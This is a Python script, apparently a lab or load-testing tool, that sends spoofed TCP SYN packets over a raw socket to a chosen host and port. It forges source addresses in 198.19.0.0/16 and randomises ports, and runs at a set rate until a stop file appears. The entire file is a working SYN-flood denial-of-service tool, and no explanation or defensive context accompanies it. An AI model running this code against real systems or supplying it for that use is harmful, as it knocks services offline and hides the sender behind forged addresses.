"""Sends SYNs from addresses that nobody has: syn_flood.py INTERFACE PEER_MAC PEER_IP PORT RATE STOP

Twenty at a time, RATE a second, from 198.19.0.0/16 and ports of any number, until the file STOP is
there; prints how many.
"""

import os
import random
import socket
import struct
import sys
import time

interface, peer_mac, peer_ip, port, rate, stop = sys.argv[1:]
BURST = 20
pause = BURST / int(rate)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
wire.bind((interface, 0))
ethernet = bytes.fromhex(peer_mac.replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
destination = socket.inet_aton(peer_ip)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack(">H", ~total & 0xFFFF)


def syn():
    source = bytes([198, 19, random.randrange(256), random.randrange(1, 255)])
    ends = struct.pack(">HHI", random.randrange(1024, 65536), int(port), random.getrandbits(32))
    before, after = ends + b"\0\0\0\0\x60\x02\xff\xff", b"\0\0\x02\x04\x05\xb4"
    pseudo = source + destination + struct.pack(">BBH", 0, 6, 24)
    segment = before + checksum(pseudo + before + after) + after
    head = b"\x45\0\0\x2c\0\0\x40\0\x40\x06"
    return ethernet + head + checksum(head + source + destination) + source + destination + segment


sent, due = 0, time.monotonic()
while not os.path.exists(stop):
    for _ in range(BURST):
        wire.send(syn())
    sent += BURST
    due = max(due + pause, time.monotonic() - 0.1)
    time.sleep(max(0, due - time.monotonic()))
print(sent)
